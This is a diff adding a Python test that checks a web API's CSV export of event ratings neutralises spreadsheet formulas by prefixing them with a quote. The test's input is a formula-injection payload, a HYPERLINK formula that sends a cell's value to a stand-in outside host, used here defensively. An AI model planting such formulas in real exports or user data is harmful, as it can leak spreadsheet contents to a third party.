@@ -226,3 +226,16 @@ def test_a_user_who_may_not_see_the_data_neither_rates_nor_exports(rated: Rated)
         f"/api/v1/event-groups/{rated.group_id}/rating", {"useful": True}, headers=carl, status=403
     )
     assert ratings_count(rated.services) == 1
+
+
+def test_the_csv_quotes_text_a_spreadsheet_would_run_as_a_formula(rated: Rated) -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1,"details")'
+    rated.app.post_json(
+        f"/api/v1/events/{rated.event_ids[0]}/rating",
+        {"useful": False, "reason": "other", "comment": formula},
+        headers=rated.ann,
+    )
+    answer = rated.app.get("/api/v1/event-ratings.csv", headers=rated.ann)
+    (row,) = csv.DictReader(io.StringIO(answer.text))
+    assert row["comment"] == "'" + formula
+    assert (row["severity"], row["source"]) == ("35", "amp-a")
